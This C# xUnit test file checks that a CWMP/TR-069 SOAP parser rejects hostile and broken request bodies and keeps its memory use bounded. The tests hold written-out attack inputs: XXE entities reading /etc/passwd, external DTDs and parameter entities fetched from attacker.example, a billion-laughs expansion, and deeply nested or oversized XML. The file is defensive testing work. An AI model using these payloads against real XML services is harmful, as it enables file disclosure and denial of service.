using System.Numerics;
using System.Text;
using Cwmp.Protocol;

namespace Cwmp.Protocol.Tests;

/// <summary>
/// Hostile and broken bodies, as an attacker or a badly broken CPE would send them to a public ACS endpoint. Each must
/// end in a <see cref="CwmpParseException"/> with the exact <see cref="CwmpParseError"/>, and the parser's allocations
/// must stay bounded by the input (or the configured limits), never by what the input claims or nests.
/// </summary>
public sealed class HostileInputTests
{
    private const string SoapEnv = "http://schemas.xmlsoap.org/soap/envelope/";
    private const int Kilobyte = 1024;
    private const int Megabyte = 1024 * Kilobyte;

    // What one parse of a small document may allocate whatever it holds: the XmlReader's buffers and name table, the
    // exception. The measured figure is a few tens of kilobytes; the slack absorbs runtime differences.
    private const long FixedOverhead = 256 * Kilobyte;

    private static readonly string[] RealisticParameters =
    [
        Param("Device.RootDataModelVersion", "2.11"),
        Param("Device.DeviceInfo.HardwareVersion", "HW 1.2"),
        Param("Device.DeviceInfo.SoftwareVersion", "4.2.1-build7"),
        Param("Device.DeviceInfo.ProvisioningCode", ""),
        Param("Device.DeviceInfo.UpTime", "86400", "xsd:unsignedInt"),
        Param("Device.ManagementServer.ParameterKey", "key-&amp;-&lt;7&gt;"),
        Param("Device.ManagementServer.ConnectionRequestURL", "http://192.0.2.10:7547/cr/8f3a"),
        Param("Device.ManagementServer.PeriodicInformEnable", "1", "xsd:boolean"),
        Param("Device.IP.Interface.1.IPv4Address.1.IPAddress", "192.0.2.10"),
    ];

    [Fact]
    public void A_realistic_inform_parses()
    {
        CwmpEnvelope envelope = ParseValid(InformXml());

        Assert.Equal(CwmpNamespaces.Cwmp10, envelope.CwmpNamespace);
        Assert.Equal("1234", envelope.Header.Id);
        var inform = Assert.IsType<Inform>(envelope.Body);
        Assert.Equal(new DeviceIdStruct("Exämple Networks", "00D09E", "HGW-2000", "SN0123456789"), inform.DeviceId);
        Assert.Equal(RealisticParameters.Length, inform.ParameterList.Count);
        Assert.Equal("key-&-<7>", inform.ParameterList[5].Value);
    }

    [Fact]
    public void An_external_entity_is_refused_as_a_DTD()
    {
        string xml = $"""
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE soap-env:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            {InformXml(extraParameters: [Param("Device.DeviceInfo.Description", "&xxe;")])}
            """;

        CwmpParseException e = AssertRejected(xml, CwmpParseError.DtdProhibited);

        Assert.DoesNotContain("root:", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_parameter_entity_is_refused_as_a_DTD()
    {
        string xml = $"""
            <?xml version="1.0"?>
            <!DOCTYPE soap-env:Envelope [
              <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
              <!ENTITY % file SYSTEM "file:///etc/hostname">
              %remote;
            ]>
            {InformXml()}
            """;

        AssertRejected(xml, CwmpParseError.DtdProhibited);
    }

    [Fact]
    public void An_external_DTD_is_refused()
    {
        string xml = $"""
            <?xml version="1.0"?>
            <!DOCTYPE soap-env:Envelope SYSTEM "http://attacker.example/cwmp.dtd">
            {InformXml()}
            """;

        AssertRejected(xml, CwmpParseError.DtdProhibited);
    }

    [Fact]
    public void Billion_laughs_is_refused_before_any_expansion()
    {
        var dtd = new StringBuilder("<!DOCTYPE soap-env:Envelope [\n<!ENTITY lol0 \"lol\">\n");
        for (int i = 1; i <= 9; i++)
        {
            dtd.Append("<!ENTITY lol").Append(i).Append(" \"");
            for (int j = 0; j < 10; j++)
            {
                dtd.Append("&lol").Append(i - 1).Append(';');
            }

            dtd.Append("\">\n");
        }

        dtd.Append("]>\n");
        string xml = dtd + InformXml(extraParameters: [Param("Device.DeviceInfo.Description", "&lol9;")]);

        AssertRejected(xml, CwmpParseError.DtdProhibited);
    }

    [Fact]
    public void A_50_MB_body_in_memory_is_refused_before_parsing()
    {
        byte[] body = new byte[50 * Megabyte];
        Encoding.UTF8.GetBytes(InformXml()).CopyTo(body, 0);
        body.AsSpan(body.Length / 2).Fill((byte)' ');

        AssertRejected(body, CwmpParseError.BodyTooLarge, allowedBytes: 1 * Megabyte);
    }

    [Fact]
    public async Task A_50_MB_streamed_body_is_read_only_up_to_the_limit()
    {
        CwmpParserOptions options = CwmpParserOptions.Default;
        string inform = InformXml(extraParameters: [Param("Device.DeviceInfo.Description", "@")]);
        int hole = inform.IndexOf('@', StringComparison.Ordinal);
        using var stream = new GeneratedStream(
            Encoding.UTF8.GetBytes(inform[..hole]), (byte)'A', Encoding.UTF8.GetBytes(inform[(hole + 1)..]), 50L * Megabyte);
        WarmUp();

        long before = GC.GetAllocatedBytesForCurrentThread();
        CwmpParseException e = await Assert.ThrowsAsync<CwmpParseException>(async () => await CwmpParser.ParseAsync(stream, options));
        long allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.Equal(CwmpParseError.BodyTooLarge, e.Error);
        Assert.Equal(413, e.HttpStatus);
        // The limit, and one byte to know it is exceeded; nothing more is pulled from the connection.
        Assert.Equal(options.MaxBodyBytes + 1L, stream.BytesRead);
        // A buffer doubling up to the limit, in the pool's power-of-two sizes: at most twice the limit rounded up to a
        // power of two (32 MB for the default 16 MB), whatever was sent after it.
        AssertAllocatedBelow(allocated, (2L * BitOperations.RoundUpToPowerOf2((uint)options.MaxBodyBytes)) + FixedOverhead);
    }

    [Fact]
    public void Nesting_100000_deep_inside_the_body_is_refused()
    {
        string xml = EnvelopeXml(Repeat("<a>", 100_000) + Repeat("</a>", 100_000));

        AssertRejected(xml, CwmpParseError.TooDeep);
    }

    [Fact]
    public void Nesting_100000_deep_inside_a_value_is_refused()
    {
        string xml = InformXml(extraParameters: [Param("Device.DeviceInfo.Description", Repeat("<b>", 100_000) + Repeat("</b>", 100_000))]);

        CwmpParseException e = AssertRejected(xml, CwmpParseError.TooDeep);

        Assert.Equal("Inform", e.MethodName);
        Assert.Equal("1234", e.RequestId);
    }

    [Theory]
    [InlineData(new byte[] { 0xC3, 0x28 })] // A lead byte without its continuation.
    [InlineData(new byte[] { 0xFF })] // Never valid in UTF-8.
    [InlineData(new byte[] { 0xC0, 0xAF })] // An overlong '/'.
    [InlineData(new byte[] { 0xED, 0xA0, 0x80 })] // A UTF-16 surrogate encoded as UTF-8.
    [InlineData(new byte[] { 0xF4, 0x90, 0x80, 0x80 })] // Beyond U+10FFFF.
    public void Invalid_UTF8_bytes_are_an_encoding_error(byte[] invalid)
    {
        string xml = InformXml(extraParameters: [Param("Device.DeviceInfo.Description", "before@after")]);
        byte[] body = Splice(xml, "@", invalid);

        CwmpParseException e = AssertRejected(body, CwmpParseError.InvalidEncoding);

        Assert.Equal(400, e.HttpStatus);
    }

    [Theory]
    [InlineData("\u0001")]
    [InlineData("&#1;")]
    [InlineData("&#x1;")]
    public void Invalid_XML_characters_in_a_value_are_stripped_by_default_and_refused_when_strict(string invalid)
    {
        string xml = InformXml(extraParameters: [Param("Device.DeviceInfo.Description", $"ab{invalid}cd")]);

        CwmpEnvelope envelope = ParseValid(xml);
        var inform = Assert.IsType<Inform>(envelope.Body);
        Assert.Equal(new ParameterValueStruct("Device.DeviceInfo.Description", "abcd"), inform.ParameterList[^1]);

        AssertRejected(xml, CwmpParseError.MalformedXml, options: CwmpParserOptions.Default with { StripInvalidXmlCharacters = false });
    }

    [Theory]
    [InlineData("<Value xsi:type=\"xsd:string\">ab\u0001cd</Value>")]
    [InlineData("<Value xsi:type=\"xsd:string\">\u0000ab\u001Fc\u0008d\u0000</Value>")]
    [InlineData("<Value xsi:type=\"xsd:str\u0002ing\">abcd</Value>")]
    [InlineData("<Value xsi:type='xsd:string'><![CDATA[ab\u0001]]>\u0001<![CDATA[cd]]></Value>")]
    [InlineData("<Value xsi:type=\"xsd:string\">ab<!-- \u0001 > \u0002 -->cd</Value>")]
    [InlineData("\u0001<Value xsi:type=\"xsd:string\">abcd</Value>\u0001")]
    public void Raw_control_bytes_in_text_attributes_CDATA_and_comments_are_removed_by_default(string value)
    {
        string xml = InformXml(extraParameters: [$"<ParameterValueStruct><Name>Device.DeviceInfo.Description</Name>{value}</ParameterValueStruct>"]);

        var inform = Assert.IsType<Inform>(ParseValid(xml).Body);

        Assert.Equal(new ParameterValueStruct("Device.DeviceInfo.Description", "abcd"), inform.ParameterList[^1]);
    }

    [Theory]
    [InlineData("utf-16")]
    [InlineData("utf-16BE")]
    [InlineData("utf-32")]
    public void A_document_in_UTF16_or_UTF32_is_not_mistaken_for_control_bytes(string encodingName)
    {
        Encoding encoding = Encoding.GetEncoding(encodingName);
        string xml = InformXml().Replace("encoding=\"UTF-8\"", $"encoding=\"{encodingName}\"", StringComparison.Ordinal);
        byte[] body = [.. encoding.GetPreamble(), .. encoding.GetBytes(xml)];

        var inform = Assert.IsType<Inform>(CwmpParser.Parse(body)?.Body);

        Assert.Equal("Exämple Networks", inform.DeviceId.Manufacturer);
    }

    [Theory]
    [InlineData("Na\u0001me")]
    [InlineData("Na&#1;me")]
    [InlineData("1Name")]
    [InlineData("Na me=")]
    [InlineData("Na<me")]
    [InlineData("-Name")]
    [InlineData("Na\uFFFEme")]
    public void Invalid_characters_in_an_element_name_are_malformed_XML(string name)
    {
        string xml = InformXml().Replace("<Name>Device.RootDataModelVersion</Name>", $"<{name}>Device.RootDataModelVersion</{name}>", StringComparison.Ordinal);
        Assert.Contains(name, xml, StringComparison.Ordinal);

        AssertRejected(xml, CwmpParseError.MalformedXml);
        AssertRejected(xml, CwmpParseError.MalformedXml, options: CwmpParserOptions.Default with { StripInvalidXmlCharacters = false });
    }

    [Fact]
    public void Every_prefix_of_an_inform_is_refused_as_malformed_or_empty()
    {
        // "ä" in the manufacturer puts cuts between the two bytes of a UTF-8 sequence among the prefixes.
        byte[] full = Encoding.UTF8.GetBytes(InformXml());
        Assert.IsType<Inform>(CwmpParser.Parse(full)?.Body);

        for (int length = 0; length < full.Length; length++)
        {
            ReadOnlyMemory<byte> prefix = full.AsMemory(0, length);
            if (CwmpParser.IsEmptyBody(prefix.Span))
            {
                Assert.Null(CwmpParser.Parse(prefix));
                continue;
            }

            CwmpParseException e = Assert.Throws<CwmpParseException>(() => CwmpParser.Parse(prefix));
            Assert.True(e.Error == CwmpParseError.MalformedXml, $"A prefix of {length} bytes: {e.Error} ({e.Message})");
        }
    }

    [Theory]
    [InlineData("<html><body><p>hello</p></body></html>")]
    [InlineData("<Envelope><Body><Inform/></Body></Envelope>")]
    [InlineData("<soap:Envelop xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelop>")]
    [InlineData("<rss version=\"2.0\"><channel/></rss>")]
    public void Xml_that_is_not_a_SOAP_envelope_is_refused(string xml)
    {
        AssertRejected(xml, CwmpParseError.NotSoapEnvelope);
    }

    [Fact]
    public void A_SOAP_12_envelope_is_refused()
    {
        string xml = InformXml().Replace(SoapEnv, "http://www.w3.org/2003/05/soap-envelope", StringComparison.Ordinal);

        AssertRejected(xml, CwmpParseError.Soap12Envelope);
    }

    [Fact]
    public void Two_bodies_are_refused()
    {
        string body = InformBodyXml(RealisticParameters);
        string xml = EnvelopeXml(body).Replace("</soap-env:Body>", $"</soap-env:Body><soap-env:Body>{body}</soap-env:Body>", StringComparison.Ordinal);

        CwmpParseException e = AssertRejected(xml, CwmpParseError.MultipleBodies);

        Assert.Equal("1234", e.RequestId);
    }

    [Fact]
    public void Two_elements_in_one_body_are_refused()
    {
        string xml = EnvelopeXml(InformBodyXml(RealisticParameters) + "<cwmp:GetRPCMethods/>");

        CwmpParseException e = AssertRejected(xml, CwmpParseError.InvalidBodyContent);

        Assert.Equal("Inform", e.MethodName);
        Assert.Equal("1234", e.RequestId);
    }

    [Theory]
    [InlineData("")]
    [InlineData("\n  \n")]
    [InlineData("<!-- nothing -->")]
    public void An_empty_body_element_is_refused(string content)
    {
        AssertRejected(EnvelopeXml(content), CwmpParseError.InvalidBodyContent);
        AssertRejected(EnvelopeXml(content).Replace($"<soap-env:Body>{content}</soap-env:Body>", "<soap-env:Body/>", StringComparison.Ordinal), CwmpParseError.InvalidBodyContent);
    }

    [Theory]
    [InlineData("<soap-env:Envelope xmlns:soap-env=\"http://schemas.xmlsoap.org/soap/envelope/\"/>")]
    [InlineData("<soap-env:Envelope xmlns:soap-env=\"http://schemas.xmlsoap.org/soap/envelope/\"></soap-env:Envelope>")]
    [InlineData("<soap-env:Envelope xmlns:soap-env=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap-env:Header/></soap-env:Envelope>")]
    public void An_envelope_without_a_body_is_refused(string xml)
    {
        AssertRejected(xml, CwmpParseError.MissingBody);
    }

    [Fact]
    public void An_inform_with_100000_parameters_is_refused_as_too_long_an_array()
    {
        string[] parameters = new string[100_000];
        for (int i = 0; i < parameters.Length; i++)
        {
            parameters[i] = Param($"Device.Hosts.Host.{i + 1}.HostName", $"host-{i}");
        }

        byte[] body = Encoding.UTF8.GetBytes(InformXml(parameters));

        CwmpParseException e = AssertRejected(body, CwmpParseError.ArrayTooLong, allowedBytes: FixedOverhead + (body.Length / 4));

        Assert.Equal(8004, e.FaultCode);
    }

    [Fact]
    public void A_value_of_100000_characters_is_refused_as_too_long_a_string()
    {
        byte[] body = Encoding.UTF8.GetBytes(InformXml(extraParameters: [Param("Device.DeviceInfo.Description", new string('x', 100_000))]));

        // A text run within what the pre-pass admits is taken whole from XmlReader (its buffer and the string, two
        // bytes a character each, the buffer doubled as it grows) and then refused: bounded by the run, not the body.
        CwmpParseException e = AssertRejected(body, CwmpParseError.StringTooLong, allowedBytes: FixedOverhead + (8L * 100_000));

        Assert.Equal(8004, e.FaultCode);
        Assert.Equal("Inform", e.MethodName);
    }

    [Fact]
    public void A_10_MB_value_is_refused_once_it_passes_the_limit_not_after_it_is_read_whole()
    {
        byte[] body = Encoding.UTF8.GetBytes(InformXml(extraParameters: [Param("Device.DeviceInfo.Description", new string('x', 10 * Megabyte))]));

        // The value read so far, up to the limit (two bytes a character, doubled as it grows), and no more.
        AssertRejected(body, CwmpParseError.StringTooLong, allowedBytes: FixedOverhead + (4L * CwmpParserOptions.Default.MaxStringLength));
    }

    [Fact]
    public void A_CDATA_section_of_1_MB_is_refused_before_the_reader_builds_it()
    {
        byte[] body = Encoding.UTF8.GetBytes(InformXml(extraParameters: [Param("Device.DeviceInfo.Description", $"<![CDATA[{new string('x', Megabyte)}]]>")]));

        AssertRejected(body, CwmpParseError.StringTooLong, allowedBytes: FixedOverhead);
    }

    [Fact]
    public void A_tag_with_100000_attributes_is_refused_before_the_reader_builds_them()
    {
        var tag = new StringBuilder("<Value xsi:type=\"xsd:string\"");
        for (int i = 0; i < 100_000; i++)
        {
            tag.Append(" a").Append(i).Append("=''");
        }

        string xml = InformXml(extraParameters: [$"<ParameterValueStruct><Name>Device.DeviceInfo.Description</Name>{tag}>x</Value></ParameterValueStruct>"]);
        byte[] body = Encoding.UTF8.GetBytes(xml);

        CwmpParseException e = AssertRejected(body, CwmpParseError.TagTooLong, allowedBytes: FixedOverhead);

        Assert.Equal(8004, e.FaultCode);
        // The same in UTF-16, where the markup is read from the decoded characters (one copy of the body).
        byte[] utf16 = [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(xml.Replace("UTF-8", "UTF-16", StringComparison.Ordinal))];
        AssertRejected(utf16, CwmpParseError.TagTooLong, allowedBytes: FixedOverhead + utf16.Length);
    }

    [Theory]
    [InlineData("<{0}>x</{0}>")]
    [InlineData("<X a='{0}'/>")]
    [InlineData("<X a=\"{0}\"/>")]
    [InlineData("</{0}>")]
    [InlineData("<X {0}")]
    public void A_name_or_attribute_value_of_1_MB_is_refused_before_the_reader_builds_it(string pattern)
    {
        string huge = new('n', Megabyte);
        byte[] body = Encoding.UTF8.GetBytes(EnvelopeXml(string.Format(System.Globalization.CultureInfo.InvariantCulture, pattern, huge)));

        AssertRejected(body, CwmpParseError.TagTooLong, allowedBytes: FixedOverhead);
    }

    [Fact]
    public void Long_comments_and_processing_instructions_are_skipped_without_building_them()
    {
        string filler = new('c', Megabyte);
        byte[] body = Encoding.UTF8.GetBytes(InformXml(extraParameters: [$"<!--{filler}--><?pi {filler}?>"]));
        WarmUp();

        long before = GC.GetAllocatedBytesForCurrentThread();
        var inform = Assert.IsType<Inform>(CwmpParser.Parse(body)?.Body);
        long allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.Equal(RealisticParameters.Length, inform.ParameterList.Count);
        AssertAllocatedBelow(allocated, FixedOverhead);
    }

    [Fact]
    public void Too_many_elements_are_refused()
    {
        int count = CwmpParserOptions.Default.MaxElements + 1;
        string xml = InformXml(extraParameters: [Param("Device.DeviceInfo.Description", Repeat("<x/>", count))]);

        AssertRejected(xml, CwmpParseError.TooManyElements);
    }

    [Fact]
    public void An_unknown_RPC_in_a_cwmp_namespace_is_kept_as_an_unknown_message()
    {
        string xml = EnvelopeXml("<cwmp:X_ACME_Frobnicate><Speed>11</Speed><Nested><Deeper/></Nested></cwmp:X_ACME_Frobnicate>", CwmpNamespaces.Cwmp12);

        CwmpEnvelope envelope = ParseValid(xml);

        Assert.Equal(new CwmpEnvelope(CwmpNamespaces.Cwmp12, CwmpHeader.WithId("1234"), new UnknownMessage("X_ACME_Frobnicate")), envelope);
    }

    [Fact]
    public void An_RPC_in_a_foreign_namespace_is_refused()
    {
        string xml = EnvelopeXml(InformBodyXml(RealisticParameters).Replace("cwmp:Inform", "acme:Inform", StringComparison.Ordinal)
            .Replace("<acme:Inform>", "<acme:Inform xmlns:acme=\"urn:acme-example:rpc\">", StringComparison.Ordinal));

        CwmpParseException e = AssertRejected(xml, CwmpParseError.UnknownNamespace);

        Assert.Equal("Inform", e.MethodName);
        Assert.Equal("1234", e.RequestId);
    }

    [Theory]
    [InlineData("<soap-env:Envelope xmlns:soap-env=\"http://schemas.xmlsoap.org/soap/envelope/\"/>", CwmpParseError.MalformedXml)]
    [InlineData("<trailer/>", CwmpParseError.MalformedXml)]
    [InlineData("trailing text", CwmpParseError.MalformedXml)]
    [InlineData("<![CDATA[x]]>", CwmpParseError.MalformedXml)]
    [InlineData("</soap-env:Envelope>", CwmpParseError.MalformedXml)]
    [InlineData("&amp;", CwmpParseError.MalformedXml)]
    [InlineData("<!DOCTYPE x>", CwmpParseError.DtdProhibited)]
    public void Content_after_the_envelope_is_refused(string trailer, CwmpParseError expected)
    {
        AssertRejected(InformXml() + trailer, expected);
    }

    [Fact]
    public void Comments_processing_instructions_and_whitespace_after_the_envelope_are_accepted()
    {
        CwmpEnvelope envelope = ParseValid(InformXml() + "\n<!-- end -->\n<?vendor x?>\n");

        Assert.IsType<Inform>(envelope.Body);
    }

    private static CwmpEnvelope ParseValid(string xml) =>
        CwmpParser.Parse(Encoding.UTF8.GetBytes(xml)) ?? throw new InvalidOperationException("An empty POST.");

    private static CwmpParseException AssertRejected(string xml, CwmpParseError expected, CwmpParserOptions? options = null) =>
        AssertRejected(Encoding.UTF8.GetBytes(xml), expected, options: options);

    /// <summary>
    /// Parses, expecting <paramref name="expected"/>, and fails when the parse allocated <paramref name="allowedBytes"/>
    /// or more; by default a small fixed overhead plus the size of the input (a parse never needs a second copy).
    /// </summary>
    private static CwmpParseException AssertRejected(byte[] body, CwmpParseError expected, long? allowedBytes = null, CwmpParserOptions? options = null)
    {
        WarmUp();
        CwmpParseException? caught = null;
        long before = GC.GetAllocatedBytesForCurrentThread();
        try
        {
            CwmpParser.Parse(body, options);
        }
        catch (CwmpParseException e)
        {
            caught = e;
        }

        long allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        Assert.NotNull(caught);
        Assert.True(expected == caught.Error, $"{caught.Error}, expected {expected}: {caught.Message}");
        AssertAllocatedBelow(allocated, allowedBytes ?? FixedOverhead + body.Length);
        return caught;
    }

    private static void AssertAllocatedBelow(long allocated, long allowedBytes) =>
        Assert.True(allocated < allowedBytes, $"The parse allocated {allocated:N0} bytes; at most {allowedBytes:N0} were allowed.");

    /// <summary>One parse first, so that one-time initialization (settings, registry, JIT helpers) is not counted.</summary>
    private static void WarmUp() => Assert.NotNull(CwmpParser.Parse(Encoding.UTF8.GetBytes(InformXml())));

    private static byte[] Splice(string xml, string marker, byte[] bytes)
    {
        int at = xml.IndexOf(marker, StringComparison.Ordinal);
        return [.. Encoding.UTF8.GetBytes(xml[..at]), .. bytes, .. Encoding.UTF8.GetBytes(xml[(at + marker.Length)..])];
    }

    private static string Repeat(string text, int count) => new StringBuilder(text.Length * count).Insert(0, text, count).ToString();

    private static string Param(string name, string value, string type = "xsd:string") =>
        $"<ParameterValueStruct><Name>{name}</Name><Value xsi:type=\"{type}\">{value}</Value></ParameterValueStruct>";

    private static string InformXml(IReadOnlyList<string>? parameters = null, IReadOnlyList<string>? extraParameters = null) =>
        EnvelopeXml(InformBodyXml([.. parameters ?? RealisticParameters, .. extraParameters ?? []]));

    private static string InformBodyXml(string[] parameters) => $"""
        <cwmp:Inform>
        <DeviceId>
        <Manufacturer>Exämple Networks</Manufacturer>
        <OUI>00D09E</OUI>
        <ProductClass>HGW-2000</ProductClass>
        <SerialNumber>SN0123456789</SerialNumber>
        </DeviceId>
        <Event soap-enc:arrayType="cwmp:EventStruct[2]">
        <EventStruct><EventCode>0 BOOTSTRAP</EventCode><CommandKey></CommandKey></EventStruct>
        <EventStruct><EventCode>1 BOOT</EventCode><CommandKey></CommandKey></EventStruct>
        </Event>
        <MaxEnvelopes>1</MaxEnvelopes>
        <CurrentTime>2025-03-14T09:26:53+01:00</CurrentTime>
        <RetryCount>0</RetryCount>
        <ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[{parameters.Length}]">
        {string.Concat(parameters)}
        </ParameterList>
        </cwmp:Inform>
        """;

    /// <summary>A cwmp-1-0 envelope as CPEs send it (XML declaration, cwmp:ID header), ending exactly at its end tag.</summary>
    private static string EnvelopeXml(string bodyContent, string cwmpNamespace = CwmpNamespaces.Cwmp10) => $"""
        <?xml version="1.0" encoding="UTF-8"?>
        <soap-env:Envelope xmlns:soap-env="{SoapEnv}" xmlns:soap-enc="http://schemas.xmlsoap.org/soap/encoding/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:cwmp="{cwmpNamespace}">
        <soap-env:Header>
        <cwmp:ID soap-env:mustUnderstand="1">1234</cwmp:ID>
        </soap-env:Header>
        <soap-env:Body>{bodyContent}</soap-env:Body>
        </soap-env:Envelope>
        """;

    /// <summary>
    /// A body of a given length made on the fly (head, filler, tail), counting the bytes the parser pulls: a 50 MB
    /// request without 50 MB in the test.
    /// </summary>
    private sealed class GeneratedStream(byte[] head, byte filler, byte[] tail, long length) : Stream
    {
        public long BytesRead { get; private set; }

        public override bool CanRead => true;

        public override bool CanSeek => false;

        public override bool CanWrite => false;

        public override long Length => throw new NotSupportedException();

        public override long Position
        {
            get => throw new NotSupportedException();
            set => throw new NotSupportedException();
        }

        public override int Read(byte[] buffer, int offset, int count) => Read(buffer.AsSpan(offset, count));

        public override int Read(Span<byte> buffer)
        {
            int count = (int)Math.Min(buffer.Length, length - BytesRead);
            long tailStart = length - tail.Length;
            for (int done = 0; done < count;)
            {
                long at = BytesRead + done;
                Span<byte> target = buffer[done..count];
                int n;
                if (at < head.Length)
                {
                    n = Math.Min(target.Length, head.Length - (int)at);
                    head.AsSpan((int)at, n).CopyTo(target);
                }
                else if (at >= tailStart)
                {
                    n = Math.Min(target.Length, (int)(length - at));
                    tail.AsSpan((int)(at - tailStart), n).CopyTo(target);
                }
                else
                {
                    n = (int)Math.Min(target.Length, tailStart - at);
                    target[..n].Fill(filler);
                }

                done += n;
            }

            BytesRead += count;
            return count;
        }

        // Synchronous on purpose: the whole parse then runs on the test thread, where allocations are measured.
        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) =>
            ValueTask.FromResult(Read(buffer.Span));

        public override Task<int> ReadAsync(byte[] buffer, int offset, int count, CancellationToken cancellationToken) =>
            Task.FromResult(Read(buffer.AsSpan(offset, count)));

        public override void Flush()
        {
        }

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
